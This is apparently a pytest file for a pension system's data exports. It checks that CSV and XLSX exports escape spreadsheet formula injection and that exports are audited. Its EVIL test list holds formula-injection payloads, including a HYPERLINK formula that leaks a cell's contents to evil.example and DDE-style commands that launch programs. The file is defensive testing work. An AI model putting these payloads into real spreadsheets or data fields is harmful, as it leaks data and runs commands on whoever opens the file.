"""Exports a spreadsheet cannot execute (formula injection) and that leave an audit trail (issue 15 items 1, 10)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from core import exports as safe
from core.settings import Settings
from models import AuditEvent
from tests import factories
from tests.scheduler.helpers import at, run
from tests.supervisor.conftest import City

EVIL = [
    '=HYPERLINK("http://evil.example/?d="&C2,"点击")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("王秀英", "王秀英"),
        ("", ""),
        ("-2", "-2"),  # a plain number in text is a number to a spreadsheet, not a formula
        ("-2.5", "-2.5"),
        (-2, -2),  # numbers are data
        (3.5, 3.5),
        (None, None),
    ],
)
def test_safe_cell(value: object, expected: object) -> None:
    assert safe.safe_cell(value) == expected


def _evil_people(session: Session) -> list[str]:
    """Pending Huancui pensioners (at risk: 10 days left) whose roster names are formulas."""
    for name in EVIL:
        factories.pensioner(session, name=name)
    session.commit()
    return EVIL


def _supervisor(client, session) -> tuple[dict[str, str], int]:  # type: ignore[no-untyped-def]
    user = factories.staff(session, role="supervisor", region=factories.CITY)
    session.commit()
    return factories.staff_token(client, user), user.id


def _assert_neutralised(names: list[str]) -> None:
    evil = [n for n in names if n.startswith("'")]
    assert sorted(n[1:] for n in evil) == sorted(EVIL)
    for n in names:
        assert not n.startswith(("=", "+", "-", "@", "\t", "\r")), n


def test_csv_export_neutralises_formulas(client, session, city: City) -> None:
    _evil_people(session)
    headers, _ = _supervisor(client, session)
    resp = client.get("/api/v1/risk/pensioners.csv", headers=headers)
    assert resp.status_code == 200, resp.text
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    _assert_neutralised([r[1] for r in rows[1:]])
    assert all(r[2].startswith("\t") and r[2][1:].isalnum() for r in rows[1:])  # IDs stay text for Excel


def test_xlsx_export_writes_strings_never_formulas(client, session, city: City) -> None:
    _evil_people(session)
    headers, _ = _supervisor(client, session)
    resp = client.get("/api/v1/risk/pensioners.xlsx", headers=headers)
    assert resp.status_code == 200, resp.text
    sheet_xml = zipfile.ZipFile(io.BytesIO(resp.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
    ws = load_workbook(io.BytesIO(resp.content)).active
    assert ws is not None
    names = [row[1].value for row in ws.iter_rows(min_row=2)]
    assert all(row[1].data_type == "s" for row in ws.iter_rows(min_row=2))
    _assert_neutralised([str(n).replace("\n", "\r") for n in names])  # XML reads a stored CR back as LF
    days_left = [row[8].value for row in ws.iter_rows(min_row=2)]
    assert all(isinstance(d, int) for d in days_left)  # numbers stay numbers


def test_risk_exports_are_audited(client, session, city: City) -> None:
    headers, staff_id = _supervisor(client, session)
    csv_resp = client.get(
        "/api/v1/risk/pensioners.csv", params={"region": factories.HUANCUI, "bedridden": "false"}, headers=headers
    )
    xlsx_resp = client.get("/api/v1/risk/pensioners.xlsx", params={"min_age": 70}, headers=headers)
    assert csv_resp.status_code == xlsx_resp.status_code == 200
    csv_rows = len(list(csv.reader(io.StringIO(csv_resp.content.decode("utf-8-sig"))))) - 1
    ws = load_workbook(io.BytesIO(xlsx_resp.content)).active
    assert ws is not None
    session.expire_all()
    events = session.scalars(
        select(AuditEvent).where(AuditEvent.action == "risk.exported").order_by(AuditEvent.id)
    ).all()
    assert [(e.actor_type, e.actor_id, e.target_type) for e in events] == [("staff", str(staff_id), "region")] * 2
    first, second = (e.detail or {} for e in events)
    assert events[0].target_id == factories.HUANCUI and events[1].target_id == factories.CITY
    assert first["format"] == "csv" and first["rows"] == csv_rows > 0 and first["season"] == 2026
    assert first["filters"]["bedridden"] is False and first["full_national_ids"] is True
    assert second["format"] == "xlsx" and second["rows"] == ws.max_row - 1 and second["filters"]["min_age"] == 70


def _cli(database_url: str, monkeypatch: pytest.MonkeyPatch, *args: str) -> str:
    from typer.testing import CliRunner

    from cli import app
    from core.settings import get_settings

    monkeypatch.setenv("PENSION_CERT_DATABASE_URL", database_url)
    get_settings.cache_clear()
    try:
        res = CliRunner().invoke(app, list(args))
    finally:
        get_settings.cache_clear()
    assert res.exit_code == 0, res.output
    return res.stdout


def test_cli_payroll_exports_neutralise_formulas_and_are_audited(
    session: Session, session_factory: sessionmaker[Session], settings: Settings, database_url: str, monkeypatch
) -> None:
    from certification import seasons

    factories.seed_regions(session)
    seasons.create_season(session=session, settings=settings, year=2026)
    for name in EVIL:
        factories.pensioner(session, name=name)
    session.commit()
    run(session_factory, settings, at(2026, 7, 2), "suspensions")
    out = _cli(database_url, monkeypatch, "export", "suspensions", "--season", "2026")
    rows = list(csv.reader(io.StringIO(out)))
    _assert_neutralised([r[1] for r in rows[1:]])
    assert len(rows) == len(EVIL) + 1
    session.expire_all()
    event = session.scalars(select(AuditEvent).where(AuditEvent.action == "payroll.exported")).one()
    assert event.actor_type == "cli" and event.actor_id
    assert event.detail == {"export": "suspensions", "season": 2026, "rows": len(EVIL), "full_national_ids": True}
